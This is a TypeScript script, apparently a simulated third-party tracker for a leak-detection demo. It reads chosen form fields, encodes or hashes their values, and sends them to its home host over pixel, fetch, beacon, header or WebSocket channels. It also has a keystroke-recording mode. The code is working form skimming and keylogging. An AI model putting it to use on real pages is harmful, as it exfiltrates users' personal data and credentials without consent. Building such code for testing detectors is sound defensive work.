import { md5, sha1 } from '@noble/hashes/legacy.js'
import { sha256 } from '@noble/hashes/sha2.js'
import { bytesToHex, utf8ToBytes } from '@noble/hashes/utils.js'
import type { Dress } from '../faults'

/**
 * What the demo's third parties run in the page: reads the fields it was told to, dresses the values, and sends them
 * to the host it came from. `data-on="keys"` is the session recorder: every key, as it is typed.
 */
const script = document.currentScript as HTMLScriptElement
const { on = 'submit', fields = '', encoding = 'plain', channel = 'image' } = script.dataset
const home = new URL(script.src).origin

const encode: Readonly<Record<Dress['encoding'], (value: string) => string>> = {
  plain: value => value,
  percent: value => encodeURIComponent(value),
  base64: value => btoa(unescape(encodeURIComponent(value))),
  hex: value => bytesToHex(utf8ToBytes(value)),
  md5: value => bytesToHex(md5(utf8ToBytes(value))),
  sha1: value => bytesToHex(sha1(utf8ToBytes(value))),
  sha256: value => bytesToHex(sha256(utf8ToBytes(value))),
  'sha256-lower': value => bytesToHex(sha256(utf8ToBytes(value.toLowerCase()))),
}

type Values = Readonly<Record<string, string>>

function multipart(values: Values): FormData {
  const form = new FormData()
  for (const [name, value] of Object.entries(values)) form.append(name, value)
  return form
}

const post = (path: string, body: BodyInit, headers: HeadersInit = {}) =>
  void fetch(`${home}${path}`, { method: 'POST', mode: 'cors', keepalive: true, body, headers }).catch(() => {})

const send: Readonly<Record<Dress['channel'], (values: Values) => void>> = {
  image: values => {
    new Image().src = `${home}/pixel?${new URLSearchParams(values)}`
  },
  form: values => post('/form', new URLSearchParams(values)),
  json: values => post('/json', JSON.stringify({ user: values }), { 'content-type': 'application/json' }),
  multipart: values => post('/multipart', multipart(values)),
  beacon: values => void navigator.sendBeacon(`${home}/beacon`, JSON.stringify(values)),
  header: values =>
    void fetch(`${home}/header`, { keepalive: true, headers: { 'x-visitor': JSON.stringify(values) } }).catch(() => {}),
  socket: values => {
    const socket = new WebSocket(`${home.replace('https', 'wss')}/socket`)
    socket.onopen = () => socket.send(JSON.stringify(values))
  },
}

/** Dressed as the address of a pixel would be: `percent` is encoded once more than the channel itself does. */
function report(names: readonly string[], within: ParentNode): void {
  const dress = encode[encoding as Dress['encoding']]
  const found = names.flatMap(name => {
    const control = within.querySelector<HTMLInputElement>(`[name="${name}"]`)
    return control?.value ? [[name, dress(control.value)] as const] : []
  })
  if (found.length) send[channel as Dress['channel']](Object.fromEntries(found))
}

const names = fields.split(',').filter(Boolean)

if (on === 'submit') document.addEventListener('submit', event => report(names, event.target as HTMLFormElement), true)
if (on === 'change') document.addEventListener('change', () => report(names, document))
if (on === 'load') report(names, document)
if (on === 'keys') {
  let sequence = 0
  document.addEventListener('input', event => {
    const { name, value } = event.target as HTMLInputElement
    post('/events', JSON.stringify({ type: 'input', seq: sequence++, target: name, text: value }))
  })
}
